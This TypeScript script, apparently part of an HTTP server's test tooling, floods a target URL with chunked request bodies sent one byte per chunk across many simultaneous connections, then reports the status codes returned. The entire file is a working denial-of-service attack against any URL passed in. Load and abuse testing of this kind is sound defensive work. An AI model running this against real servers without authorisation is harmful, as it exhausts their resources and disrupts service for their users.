/**
 * A process that posts bodies in chunks of one byte, on many connections at once: `chunk_attack.ts URL CONNECTIONS BYTES`.
 * Prints the statuses that came back, as JSON.
 *
 * @module
 */
import process from "node:process";
import { plausibleHead, RawConnection } from "./raw_http.ts";

const [url = "", connections = "", bytes = ""] = process.argv.slice(2);
const CHUNKS = 4_096;
const part = new TextEncoder().encode("1\r\nx\r\n".repeat(CHUNKS));

async function attack(): Promise<number> {
  await using connection = await RawConnection.open(url);
  connection.write(plausibleHead("Transfer-Encoding: chunked"));
  // Until all is written, or the server answers.
  for (let sent = 0; sent < Number(bytes) && !connection.answered; sent += CHUNKS) await connection.drained(part);
  connection.write("0\r\n\r\n");
  return (await connection.answer()).status;
}

const statuses = await Promise.all(Array.from({ length: Number(connections) }, attack));
console.log(JSON.stringify(statuses));
